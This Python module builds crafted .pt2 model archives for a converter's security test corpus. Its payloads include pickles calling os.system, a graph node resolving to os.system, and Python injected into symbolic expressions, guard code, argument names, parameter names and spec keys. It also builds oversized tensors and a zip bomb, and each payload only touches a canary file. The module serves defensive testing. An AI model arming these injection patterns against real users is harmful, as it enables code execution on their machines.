"""Crafted `.pt2` archives for the security corpus, each made from a tiny valid torch.export of a
two-layer network by editing one member: what an attacker hands a user who runs `snnconvert inspect`.

Every payload that could run code does one harmless thing, creating the canary file it is given, so a
test can tell "refused" from "ran the payload, then failed"."""

from __future__ import annotations

import json
import os
import pickle
import re
import zipfile
from pathlib import Path

import torch


class Canary:
    """Unpickling this runs `open(path, 'w')`: proof that a pickle was loaded with code allowed."""

    def __init__(self, path: Path):
        self.path = str(path)

    def __reduce__(self):
        return (os.system, (f"touch '{self.path}'",))


def canary_pickle(canary: Path) -> bytes:
    return pickle.dumps(Canary(canary), protocol=2)


class TwoLayer(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.fc1 = torch.nn.Linear(4, 8)
        self.fc2 = torch.nn.Linear(8, 3)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc2(torch.relu(self.fc1(x)))


def export_two_layer(path: Path, dynamic: bool = True) -> Path:
    """A valid archive: the base every crafted case edits (dynamic batch: symbolic shapes inside)."""
    torch.manual_seed(0)
    m = TwoLayer().eval()
    shapes = {"x": {0: torch.export.Dim("batch", min=1, max=4096)}} if dynamic else None
    ep = torch.export.export(m, (torch.randn(2, 4),), dynamic_shapes=shapes)
    torch.export.save(ep, str(path))
    return path


def read_members(path: Path) -> tuple[str, dict[str, bytes]]:
    """(root folder, {name below the root: bytes})."""
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        root = names[0].split("/", 1)[0]
        return root, {n.split("/", 1)[1]: z.read(n) for n in names}


def write_members(
    path: Path, root: str, members: dict[str, bytes], raw_names: dict[str, bytes] | None = None
):
    """Write an archive the way torch does (stored, one root folder); raw_names are written as given."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            z.writestr(f"{root}/{name}", data)
        for name, data in (raw_names or {}).items():
            z.writestr(zipfile.ZipInfo(name), data)
    return path


def edit(src: Path, dst: Path, change) -> Path:
    """Copy the archive at src to dst after change(members) edits the {name: bytes} dict in place."""
    root, members = read_members(src)
    change(members)
    return write_members(dst, root, members)


def edit_json(members: dict[str, bytes], name: str, change) -> None:
    j = json.loads(members[name])
    change(j)
    members[name] = json.dumps(j).encode()


WEIGHTS_CONFIG = "data/weights/model_weights_config.json"
CONSTANTS_CONFIG = "data/constants/model_constants_config.json"
PROGRAM = "models/model.json"
SAMPLE_INPUTS = "data/sample_inputs/model.pt"


def pickled_weight(members: dict[str, bytes], canary: Path) -> None:
    """The issue's archive: one weight says use_pickle and its payload is a pickle calling os.system."""

    def change(cfg):
        entry = cfg["config"]["fc1.weight"]
        entry["use_pickle"] = True
        members[f"data/weights/{entry['path_name']}"] = canary_pickle(canary)

    edit_json(members, WEIGHTS_CONFIG, change)


def pickled_sample_inputs(members: dict[str, bytes], canary: Path) -> None:
    members[SAMPLE_INPUTS] = canary_pickle(canary)


def object_constant(members: dict[str, bytes], canary: Path, prefix: str) -> None:
    """A constant stored as a pickled object (prefix opaque_obj_: pickle.loads; custom_obj_: TorchBind)."""
    members[f"data/constants/{prefix}0"] = canary_pickle(canary)

    def change(cfg):
        cfg["config"]["evil"] = {
            "path_name": f"{prefix}0",
            "is_param": False,
            "use_pickle": True,
            "tensor_meta": None,
        }

    edit_json(members, CONSTANTS_CONFIG, change)


def nodes(program: dict) -> list[dict]:
    return program["graph_module"]["graph"]["nodes"]


def shell(canary: Path) -> str:
    """A command without quotes (some payloads sit inside generated string literals)."""
    assert re.fullmatch(r"[\w./-]+", str(canary)), canary
    return f"touch {canary}"


def target_outside_aten(members: dict[str, bytes], canary: Path) -> None:
    """A node whose target resolves, through torch's module attributes, to os.system."""

    def change(j):
        ns = nodes(j)
        relu = next(n for n in ns if n["target"] == "torch.ops.aten.relu.default")
        ns.insert(
            ns.index(relu),
            {
                "target": "torch.os.system",
                "inputs": [{"name": "command", "arg": {"as_string": shell(canary)}, "kind": 1}],
                "outputs": [{"as_tensor": {"name": "evil"}}],
                "metadata": {},
                "is_hop_single_tensor_return": None,
                "name": "evil",
            },
        )
        values = j["graph_module"]["graph"]["tensor_values"]
        values["evil"] = values[relu["outputs"][0]["as_tensor"]["name"]]

    edit_json(members, PROGRAM, change)


def code_in_sym_expr(members: dict[str, bytes], canary: Path) -> None:
    """A symbolic size whose expression string is Python: sympy.sympify evaluates it."""
    expr = f"Symbol('s0') + 0*len(__import__('os').popen({shell(canary)!r}).read())"

    def change(j):
        for v in j["graph_module"]["graph"]["tensor_values"].values():
            for s in v["sizes"]:
                if "as_expr" in s:
                    s["as_expr"]["expr_str"] = expr
                    return
        raise AssertionError("the base export has no symbolic size")

    edit_json(members, PROGRAM, change)


def code_in_guards(members: dict[str, bytes], canary: Path) -> None:
    """guards_code is Python source that ExportedProgram.module() compiles and runs."""
    edit_json(
        members,
        PROGRAM,
        lambda j: j.__setitem__("guards_code", [f"__import__('os').system({shell(canary)!r}) == 0"]),
    )


def code_in_arg_names(members: dict[str, bytes], canary: Path) -> None:
    """forward_arg_names are pasted into the generated forward() signature."""
    evil = f"x=__import__('os').system({shell(canary)!r})"

    def change(j):
        j["graph_module"]["module_call_graph"][0]["signature"]["forward_arg_names"] = [evil]

    edit_json(members, PROGRAM, change)


def code_in_parameter_name(members: dict[str, bytes], canary: Path) -> None:
    """A parameter name with a quote: fx writes it into getattr(self, "...") in generated code."""
    assert "." not in str(canary), canary  # fx splits the name on dots
    evil = f'bias"),getattr(__import__("os"),"system")({shell(canary)!r}),getattr(self,"fc2'

    def change_prog(j):
        for spec in j["graph_module"]["signature"]["input_specs"]:
            if "parameter" in spec and spec["parameter"]["parameter_name"] == "fc1.weight":
                spec["parameter"]["parameter_name"] = f"fc1.{evil}"

    def change_cfg(cfg):
        cfg["config"][f"fc1.{evil}"] = cfg["config"].pop("fc1.weight")

    edit_json(members, PROGRAM, change_prog)
    edit_json(members, WEIGHTS_CONFIG, change_cfg)


def code_in_spec_key(members: dict[str, bytes], canary: Path) -> None:
    """A keyword-argument name in the input tree spec: fx writes it as '{key}': in forward()."""
    evil = f"x':getattr(__import__('os'),'system')({shell(canary)!r}),'y"

    def change(j):
        sig = j["graph_module"]["module_call_graph"][0]["signature"]
        spec = json.loads(sig["in_spec"])
        spec[1]["children_spec"][1]["context"] = json.dumps([evil])
        sig["in_spec"] = json.dumps(spec)

    edit_json(members, PROGRAM, change)


def pickled_tensor_constant(members: dict[str, bytes], canary: Path) -> None:
    """A tensor constant (prefix tensor_) marked use_pickle: torch.load(weights_only=False)."""
    members["data/constants/tensor_0"] = canary_pickle(canary)

    def change(cfg):
        cfg["config"]["c"] = {
            "path_name": "tensor_0",
            "is_param": False,
            "use_pickle": True,
            "tensor_meta": None,
        }

    edit_json(members, CONSTANTS_CONFIG, change)


def oversized_view(members: dict[str, bytes], sizes: list[int], payload: bytes | None = None) -> None:
    """fc1.weight declared with `sizes` over its payload (or over `payload` instead): an empty payload
    makes torch allocate zeros of the declared size."""

    def change(cfg):
        e = cfg["config"]["fc1.weight"]
        meta = e["tensor_meta"]
        meta["sizes"] = [{"as_int": s} for s in sizes]
        strides, acc = [], 1
        for s in reversed(sizes):
            strides.insert(0, {"as_int": acc})
            acc *= s
        meta["strides"] = strides
        if payload is not None:
            members[f"data/weights/{e['path_name']}"] = payload

    edit_json(members, WEIGHTS_CONFIG, change)


def write_deflated(path: Path, root: str, members: dict[str, bytes], bomb: str, inflated: int) -> Path:
    """The archive with one extra member `bomb`: `inflated` zero bytes, deflated (about 1000x)."""
    write_members(path, root, members)
    with zipfile.ZipFile(path, "a") as z:
        info = zipfile.ZipInfo(f"{root}/{bomb}")
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as f:
            chunk = bytes(1 << 20)
            for _ in range(inflated >> 20):
                f.write(chunk)
    return path
